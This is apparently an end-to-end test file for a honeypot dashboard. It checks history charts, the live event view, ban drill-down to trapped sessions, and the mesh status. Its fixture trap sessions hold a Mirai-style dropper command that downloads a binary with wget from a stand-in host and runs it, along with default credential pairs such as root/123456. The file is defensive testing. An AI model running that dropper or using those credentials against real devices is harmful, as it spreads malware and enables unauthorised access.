// The dashboard with memory (issue 18), in headless Chromium against a real node on loopback:
// over-time charts read apid's per-minute history (seeded through apid's own HistoryRecorder into
// its apid-history.sqlite, as if apid had run for 30 days), the live view opens on the last events
// the lists hold, a ban drills down to its address's trap sessions (trapd's own store writer, plus a
// real SSH session against trapd), and the mesh view says when the mesh is off and why (a real
// meshd without a cluster key). Screenshots go to artifacts/dashboard/ (not in git).
import { afterAll, beforeAll, describe, expect, setSystemTime, test } from "bun:test";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { openStore } from "../../packages/db/src/open.ts";
import type { TrapSession } from "../../packages/schema/src/trap.ts";
import * as historyTables from "../../packages/tables/src/apid-history.ts";
import * as trapdTables from "../../packages/tables/src/trapd.ts";
import { HistoryRecorder } from "../../services/apid/src/history/history-recorder.ts";
import { SessionStore } from "../../services/trapd/src/store/session-store.ts";
import { curl } from "../apid/harness.ts";
import { ROOT } from "../support/bus-node.ts";
import { browserSkipReason, ensureDashboardBuilt, login, openBrowser, shot, type Browser } from "./browser.ts";
import { DashNode, seedPeers } from "./harness.ts";

const skip = browserSkipReason();
if (skip) console.warn(`dashboard memory e2e skipped: ${skip}`);

const MINUTE = 60_000;
const DAY = 86_400_000;

/** One seeded minute: what the recorder was told during it. */
interface Minute {
  hits: number;
  sessions: number;
  decisions: number;
  bansAdded: number;
  bansEnded: number;
  bansActive: number;
  dropped: number;
  passed: number;
}

/** A varied, deterministic minute (so a wrong bucket or an off-by-one shows as a wrong value). */
function minuteAt(i: number): Minute {
  return { hits: 1 + ((i * 7) % 23), sessions: (i * 3) % 5, decisions: i % 3, bansAdded: i % 5 === 0 ? 2 : 0, bansEnded: i % 7 === 0 ? 1 : 0, bansActive: 100 + ((i * 11) % 60), dropped: 10 * (i % 4), passed: 1000 + (i % 100) };
}

/**
 * Writes minutes through apid's HistoryRecorder: each run is an apid that started at `start` (the
 * clock set there) and recorded `count` minutes, told each bus event as apid's wiring tells it.
 */
function seedHistory(stateDir: string, runs: { start: number; count: number }[]): Map<number, Minute> {
  const seeded = new Map<number, Minute>();
  const store = openStore({ path: join(stateDir, "apid-history.sqlite"), schema: historyTables, migrationsFolder: join(ROOT, "services/apid/drizzle-history") });
  let kernel = { dropped: 5_000, passed: 900_000 };
  let active = 0;
  try {
    for (const run of runs) {
      setSystemTime(new Date(run.start + 1234));
      const rec = new HistoryRecorder(store, { activeBans: () => active, kernel: () => kernel });
      for (let k = 0; k < run.count; k++) {
        const minute = run.start + k * MINUTE;
        const m = minuteAt(minute / MINUTE);
        for (let j = 0; j < m.hits; j++) rec.hit();
        rec.sessions(m.sessions);
        for (let j = 0; j < m.decisions; j++) rec.decision();
        for (let j = 0; j < m.bansAdded; j++) rec.banAdded();
        for (let j = 0; j < m.bansEnded; j++) rec.banEnded();
        active = m.bansActive;
        kernel = { dropped: kernel.dropped + m.dropped, passed: kernel.passed + m.passed };
        rec.tick(minute + MINUTE + 500);
        seeded.set(minute, m);
      }
      // Synchronous from construction to here: the recorder's own 1 s timer never ran.
      rec.stop();
    }
  } finally {
    setSystemTime();
    store.close();
  }
  return seeded;
}

/** What the charts drew: the window and each series' points, read from the page in one go. */
async function drawn(page: Page): Promise<{ range: string; from: number; to: number; step: number; series: Record<string, Map<number, number>> }> {
  const raw = await page.evaluate(() => {
    const doc = (globalThis as unknown as { document: { querySelector(s: string): { getAttribute(n: string): string | null } | null; querySelectorAll(s: string): ArrayLike<{ getAttribute(n: string): string | null }> } }).document;
    const h = doc.querySelector(".history")!;
    const series: Record<string, string> = {};
    for (const g of Array.from(doc.querySelectorAll(".history [data-series]"))) series[g.getAttribute("data-series")!] = g.getAttribute("data-points") ?? "";
    return { range: h.getAttribute("data-range")!, from: Number(h.getAttribute("data-from")), to: Number(h.getAttribute("data-to")), step: Number(h.getAttribute("data-step")), series };
  });
  const series: Record<string, Map<number, number>> = {};
  for (const [name, text] of Object.entries(raw.series)) series[name] = new Map(text ? text.split(",").map((p) => p.split(":").map(Number) as [number, number]) : []);
  return { ...raw, series };
}

/** The seeded minutes summed into the page's buckets, for the buckets wholly before `until`. */
function expected(seeded: Map<number, Minute>, from: number, to: number, step: number, until: number) {
  const out = new Map<number, { hits: number; sessions: number; added: number; ended: number; active: number; dropped: number; passed: number }>();
  for (const [minute, m] of [...seeded].sort((a, b) => a[0] - b[0])) {
    if (minute < from || minute >= to) continue;
    const t = from + Math.floor((minute - from) / step) * step;
    if (t + step > until) continue;
    const e = out.get(t) ?? { hits: 0, sessions: 0, added: 0, ended: 0, active: 0, dropped: 0, passed: 0 };
    e.hits += m.hits;
    e.sessions += m.sessions;
    e.added += m.bansAdded;
    e.ended += m.bansEnded;
    e.active = m.bansActive;
    e.dropped += m.dropped;
    e.passed += m.passed;
    out.set(t, e);
  }
  return out;
}

const ATTACKER = "203.0.113.50";
const NEIGHBOUR = "203.0.113.5"; // a prefix of ATTACKER's text: a substring match would mix them
const MESH_SRC = "198.51.100.9";
const DROPPER = "cd /tmp; wget http://198.51.100.80/bins/mirai.x86 -O m; chmod +x m; ./m";
const SHA = "b0abe1fc3221488396cb845b73dad2a0838923837dfd67247b06e596fff3f2c3";

function trapSessions(now: number): TrapSession[] {
  const base = { src_port: 40000, dst: "192.0.2.1", bytes_in: 900, bytes_out: 2000, payload_b64: "", entropy: 4.2, meta: {}, end_reason: "closed" } as const;
  return [
    { ...base, session_id: "mem-ssh-0001", service: "ssh", src: ATTACKER, dst_port: 22, started_at: now - 50 * MINUTE, ended_at: now - 50 * MINUTE + 9000, credentials: [{ method: "password", username: "root", password: "123456" }, { method: "password", username: "admin", password: "admin" }], commands: ["uname -a", DROPPER], command_at: [1200, 4100], indicators: { urls: ["http://198.51.100.80/bins/mirai.x86"], hosts: ["198.51.100.80"] }, files: [{ sha256: SHA, size: 5000, name: "/tmp/m", via: "dropper", stored: true }] },
    { ...base, session_id: "mem-ssh-0002", service: "ssh", src: ATTACKER, dst_port: 22, started_at: now - 40 * MINUTE, ended_at: now - 40 * MINUTE + 3000, credentials: [{ method: "password", username: "ubnt", password: "ubnt" }], commands: ["cat /proc/cpuinfo"] },
    { ...base, session_id: "mem-http-0003", service: "http", src: ATTACKER, dst_port: 80, started_at: now - 30 * MINUTE, ended_at: now - 30 * MINUTE + 200, credentials: [], commands: ["GET /wp-login.php HTTP/1.1"], meta: { method: "GET", path: "/wp-login.php" } },
    { ...base, session_id: "mem-ssh-0004", service: "ssh", src: NEIGHBOUR, dst_port: 22, started_at: now - 20 * MINUTE, ended_at: now - 20 * MINUTE + 1000, credentials: [{ method: "password", username: "pi", password: "raspberry" }], commands: ["echo neighbour"] },
    { ...base, session_id: "mem-tel-0005", service: "telnet", src: MESH_SRC, dst_port: 23, started_at: now - 10 * MINUTE, ended_at: now - 10 * MINUTE + 4000, credentials: [{ method: "password", username: "admin", password: "1234" }], commands: ["enable", "/bin/busybox MIRAI"] },
  ];
}

describe.skipIf(Boolean(skip))("dashboard with memory in a real browser", () => {
  let n: DashNode;
  let seeded: Map<number, Minute>;
  let seedEnd = 0;
  const open: Browser[] = [];
  const browser = async () => {
    const b = await openBrowser();
    open.push(b);
    return b;
  };

  beforeAll(async () => {
    ensureDashboardBuilt();
    // Seeded minutes end before the minute apid starts in: apid's own recorder writes from there.
    seedEnd = Math.floor(Date.now() / MINUTE) * MINUTE;
    n = await new DashNode().startAll();
    const runs = [{ start: seedEnd - 2 * DAY, count: 2 * 24 * 60 }];
    // Before that an apid that ran one hour a day: the gaps stay gaps.
    for (let d = 3; d <= 30; d++) runs.unshift({ start: seedEnd - d * DAY + 5 * 3_600_000, count: 60 });
    seeded = seedHistory(n.node.stateDir, runs);

    const now = Date.now();
    const store = new SessionStore(openStore({ path: join(n.node.stateDir, "trapd.sqlite"), schema: trapdTables, migrationsFolder: join(ROOT, "services/trapd/drizzle") }));
    for (const s of trapSessions(now)) store.add(s);
    store.close();
    seedPeers(n.node.stateDir);
    n.seedBans([
      { address: ATTACKER, kind: "ip", reasons: 1 | 32, expiresAt: now + DAY, createdAt: now - 45 * MINUTE, updatedAt: now - 39 * MINUTE, origin: n.node.nodeId, source: "scand", offence: 2, evidence: [{ kind: "trap", summary: "ssh: root/123456, admin/admin (2 attempts)" }], confidence: "verified" },
      { address: MESH_SRC, kind: "ip", reasons: 4, expiresAt: now + 3_600_000, createdAt: now - 9 * MINUTE, updatedAt: now - 9 * MINUTE, origin: "node-fra-2", source: "meshd", offence: 1, evidence: [{ kind: "other", summary: "telnet: admin/1234 then busybox MIRAI (at node-fra-2)" }], confidence: "verified" },
    ]);
  }, 60_000);
  afterAll(async () => {
    for (const b of open) await b.close();
    await n?.stop();
  });

  test("GET /v1/events?address= is strict: canonical address, exact match, prefixes and garbage refused", async () => {
    const ids = async (q: string) => ((await n.req("GET", `/v1/events?${q}`)).json.items as { session_id: string }[]).map((x) => x.session_id).sort();
    expect(await ids(`address=${ATTACKER}`)).toEqual(["mem-http-0003", "mem-ssh-0001", "mem-ssh-0002"]);
    expect(await ids(`address=${NEIGHBOUR}`)).toEqual(["mem-ssh-0004"]);
    // IPv4-mapped IPv6 folds to the IPv4 address trapd stored.
    expect(await ids(`address=${encodeURIComponent(`::ffff:${ATTACKER}`)}`)).toEqual(["mem-http-0003", "mem-ssh-0001", "mem-ssh-0002"]);
    expect(await ids(`address=${ATTACKER}&service=ssh`)).toEqual(["mem-ssh-0001", "mem-ssh-0002"]);
    for (const bad of [encodeURIComponent("203.0.113.0/24"), "203.0.113", "not-an-ip"]) {
      const r = await n.req("GET", `/v1/events?address=${bad}`);
      expect(r.status).toBe(400);
      expect(r.body).toContain("address");
    }
  });

  test("over-time charts draw apid's recorded history for 1 h, 24 h, 7 d and 30 d, then append live hits", async () => {
    const { page } = await browser();
    await login(page, n.base, n.admin);
    await page.waitForSelector(".history[data-range]");
    for (const range of ["1h", "24h", "7d", "30d"]) {
      await page.click(`button[data-range="${range}"]`);
      await page.waitForSelector(`.history[data-range="${range}"]`);
      const d = await drawn(page);
      const want = expected(seeded, d.from, d.to, d.step, seedEnd);
      const buckets = [...want.keys()];
      // Every bucket seeded in the window is drawn, with the values written through the recorder.
      expect(buckets.length).toBeGreaterThan(range === "1h" ? 50 : 20);
      expect([...d.series.hits!.keys()].filter((t) => t + d.step <= seedEnd)).toEqual(buckets);
      for (const [t, e] of want) {
        expect([t, d.series.hits!.get(t)]).toEqual([t, e.hits]);
        expect([t, d.series.sessions!.get(t) ?? 0]).toEqual([t, e.sessions]);
        expect([t, d.series.added!.get(t) ?? 0]).toEqual([t, e.added]);
        expect([t, d.series.ended!.get(t) ?? 0]).toEqual([t, e.ended]);
        expect([t, d.series.active!.get(t)]).toEqual([t, e.active]);
        expect([t, d.series.dropped!.get(t) ?? 0]).toEqual([t, e.dropped]);
        expect([t, d.series.passed!.get(t) ?? 0]).toEqual([t, e.passed]);
      }
      if (range === "24h" || range === "30d") await shot(page, `40-history-${range}`);
    }
    // The 30-day view has the one-hour-a-day runs as separate buckets with gaps between them.
    const month = await drawn(page);
    expect([...month.series.hits!.keys()].filter((t) => t < seedEnd - 2 * DAY).length).toBeGreaterThanOrEqual(20);

    // Live: a hit on a real trap lands in the current bucket without reloading the page.
    await page.click('button[data-range="1h"]');
    await page.waitForSelector('.history[data-range="1h"]');
    await page.waitForSelector('.live-dot[title="stream live"]', { state: "attached" });
    const before = (await drawn(page)).series.hits!;
    const sumAfter = (m: Map<number, number>) => [...m].filter(([t]) => t >= seedEnd).reduce((a, [, v]) => a + v, 0);
    const base = sumAfter(before);
    // curl: a new connection each time (a pooled keep-alive connection would be no new trap hit).
    await curl([`http://127.0.0.1:${n.traps.http}/memory-probe`]);
    await page.waitForFunction(
      ([b, end]) => {
        const g = (globalThis as unknown as { document: { querySelector(s: string): { getAttribute(n: string): string | null } | null } }).document.querySelector('.history [data-series="hits"]');
        const pts = (g?.getAttribute("data-points") ?? "").split(",").filter(Boolean).map((p) => p.split(":").map(Number) as [number, number]);
        return pts.filter(([t]) => t >= end).reduce((a, [, v]) => a + v, 0) > b;
      },
      [base, seedEnd] as const,
      { timeout: 20_000 },
    );
    await shot(page, "41-history-1h-live");
  }, 120_000);

  test("the live view opens on the last sessions and bans, then appends live events", async () => {
    const { page } = await browser();
    await login(page, n.base, n.admin);
    await page.click('nav.tabs a[href="#/live"]');
    await page.waitForSelector(`.live-row.backfill.kind-hit[data-src="${ATTACKER}"]`);
    // All three of its sessions, joined to what was sent, and the mesh ban, before any new event.
    expect(await page.locator(`.live-row.backfill.kind-hit[data-src="${ATTACKER}"]`).count()).toBe(3);
    await page.waitForSelector(`.live-row.backfill.kind-hit[data-src="${ATTACKER}"] td.sent:has-text("root:123456")`);
    await page.waitForSelector(`.live-row.backfill.kind-ban[data-src="${MESH_SRC}"]`);
    expect(await page.textContent(`.live-row.backfill.kind-ban[data-src="${MESH_SRC}"] td.sent`)).toContain("node-fra-2");
    expect(await page.textContent("[data-testid=live-count]")).toMatch(/from before this page opened/);
    await shot(page, "42-live-backfilled");
    // Newest first: a live hit goes above the backfilled rows.
    await page.waitForSelector('.stream-state[data-state="live"]');
    await curl([`http://127.0.0.1:${n.traps.http}/after-backfill`]);
    await page.waitForSelector('.live-row.kind-hit:not(.backfill)[data-src="127.0.0.1"]');
    const first = await page.locator(".live-row").first().getAttribute("class");
    expect(first).not.toContain("backfill");
  }, 60_000);

  test("a ban drills down to its address's sessions: commands, credentials, downloads, evidence; a mesh ban names its peer", async () => {
    const { page } = await browser();
    await login(page, n.base, n.admin);
    await page.click('nav.tabs a[href="#/bans"]');
    await page.fill('input[aria-label="Bans that drop this address"]', ATTACKER);
    await page.click(`.brow[data-value="${ATTACKER}"]`);
    await page.waitForSelector(".detail [data-testid=drill]");
    await page.click(".detail [data-testid=drill]");
    await page.waitForSelector(`.view-source[data-address="${ATTACKER}"] .sess`);
    await page.waitForSelector(`[data-ban="${ATTACKER}"]`);
    // Exactly its three sessions (not the neighbour's), newest first.
    expect(await page.locator(".sess").evaluateAll((els) => els.map((e) => e.getAttribute("data-session")))).toEqual(["mem-http-0003", "mem-ssh-0002", "mem-ssh-0001"]);
    const first = page.locator('.sess[data-session="mem-ssh-0001"]');
    expect(await first.locator("[data-cmd]").evaluateAll((els) => els.map((e) => e.getAttribute("data-cmd")))).toEqual(["uname -a", DROPPER]);
    expect(await first.locator("[data-cred]").evaluateAll((els) => els.map((e) => e.getAttribute("data-cred")))).toEqual(["root:123456", "admin:admin"]);
    expect(await first.locator("[data-url]").getAttribute("data-url")).toBe("http://198.51.100.80/bins/mirai.x86");
    expect(await first.locator("[data-file]").getAttribute("data-file")).toBe("/tmp/m");
    expect(await page.locator(".sess").filter({ hasText: "neighbour" }).count()).toBe(0);
    expect(await page.textContent(`[data-ban="${ATTACKER}"] .evidence`)).toContain("ssh: root/123456, admin/admin");
    expect(await page.textContent(`[data-ban="${ATTACKER}"] [data-origin]`)).toContain("this node");
    await shot(page, "43-ban-sessions");

    // A ban decided on a peer: its origin is the mesh peer, with what meshd knows of it.
    await page.goto(`${n.base}/#/source/${MESH_SRC}`);
    await page.waitForSelector(`[data-ban="${MESH_SRC}"] [data-origin="mesh"]`);
    const origin = await page.textContent(`[data-ban="${MESH_SRC}"] [data-origin="mesh"]`);
    expect(origin).toContain("node-fra-2");
    expect(origin).toContain("trust full");
    expect(await page.textContent("[data-testid=mesh-origins]")).toContain("node-fra-2");
    await page.waitForSelector('.sess[data-session="mem-tel-0005"] [data-cmd="/bin/busybox MIRAI"]');
    await shot(page, "44-mesh-ban-sessions");
  }, 60_000);

  test("country / ASN / org: no column without them; with them (apid's real answer plus the optional fields) a column and a filter", async () => {
    const { page } = await browser();
    await login(page, n.base, n.admin);
    await page.click('nav.tabs a[href="#/bans"]');
    await page.waitForSelector(`.brow[data-value="${ATTACKER}"]`);
    expect(await page.locator(".bans-table.has-geo").count()).toBe(0);
    expect(await page.locator('input[aria-label="Filter by country, ASN or organisation"]').count()).toBe(0);

    // The enrichment is another branch's work: add its optional fields to apid's real answer.
    const GEO: Record<string, object> = { [ATTACKER]: { country: "NL", asn: 64500, org: "Example Hosting BV" }, [MESH_SRC]: { country: "BR", asn: "AS64501", org: "Exemplo Telecom" } };
    await page.route("**/v1/bans?*", async (route) => {
      const res = await route.fetch();
      const body = (await res.json()) as { items: { address: { text: string } }[] };
      await route.fulfill({ response: res, json: { ...body, items: body.items.map((b) => ({ ...b, ...GEO[b.address.text] })) } });
    });
    await page.reload();
    await page.waitForSelector(".bans-table.has-geo .brow[data-value]");
    expect(await page.textContent(`.brow[data-value="${ATTACKER}"] .c-geo`)).toBe("NL · AS64500 Example Hosting BV");
    await page.fill('input[aria-label="Filter by country, ASN or organisation"]', "telecom");
    await page.waitForFunction((a) => !(globalThis as unknown as { document: { querySelector(s: string): unknown } }).document.querySelector(`.brow[data-value="${a}"]`), ATTACKER);
    expect(await page.locator(".brow[data-value]").evaluateAll((els) => els.map((e) => e.getAttribute("data-value")))).toEqual([MESH_SRC]);
    await shot(page, "46-bans-network-column");
  }, 60_000);

  test("a real SSH session against trapd: its source drills down from the live view to the credentials tried", async () => {
    const { page } = await browser();
    await login(page, n.base, n.admin);
    await page.click('nav.tabs a[href="#/live"]');
    await page.waitForSelector('.stream-state[data-state="live"]');
    const pass = `mem-${crypto.randomUUID().slice(0, 8)}`;
    Bun.spawnSync(["sshpass", "-p", pass, "ssh", "-p", String(n.traps.ssh), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=5", "oracle@127.0.0.1", "id"], { stdout: "ignore", stderr: "ignore", timeout: 10_000 });
    // The hit comes at once; the closed session (what was sent) once trapd has stored it.
    const row = `.live-row.kind-hit[data-src="127.0.0.1"]:has(td.sent:has-text("oracle:${pass}"))`;
    await page.waitForSelector(row, { timeout: 15_000 });
    await page.click(`${row} a.src-link`);
    await page.waitForSelector('.view-source[data-address="127.0.0.1"]');
    await page.waitForSelector(`.sess [data-cred="oracle:${pass}"]`, { timeout: 15_000 });
  }, 60_000);

  test("the mesh view says plainly that meshd is not running, then that the mesh is off and why", async () => {
    const { page } = await browser();
    await login(page, n.base, n.admin);
    await page.click('nav.tabs a[href="#/mesh"]');
    await page.waitForSelector('.view-mesh[data-mesh="down"] [data-testid=mesh-off]');
    expect(await page.textContent("[data-testid=mesh-off]")).toContain("meshd is not running");

    // A real meshd with the default config: no cluster key, so it reports mesh_off with a detail.
    n.node.spawn([process.execPath, join(ROOT, "services/meshd/src/main.ts")], n.env());
    let detail = "";
    for (let i = 0; i < 300 && !detail; i++) {
      const st = await n.req("GET", "/v1/status");
      const m = (st.json?.services ?? []).find((x: { name: string }) => x.name === "meshd");
      detail = m?.up ? (m.degraded.find((d: { code: string }) => d.code === "mesh_off")?.detail ?? "") : "";
      if (!detail) await Bun.sleep(100);
    }
    expect(detail).toContain("cluster_key_file");
    await page.waitForSelector('.view-mesh[data-mesh="off"] [data-testid=mesh-off]');
    const banner = await page.textContent("[data-testid=mesh-off]");
    expect(banner).toContain("The mesh is off");
    expect(banner).toContain(detail);
    expect(await page.textContent(".view-mesh")).not.toContain("Peers appear once meshd has connected");
    await shot(page, "45-mesh-off");
  }, 60_000);
});
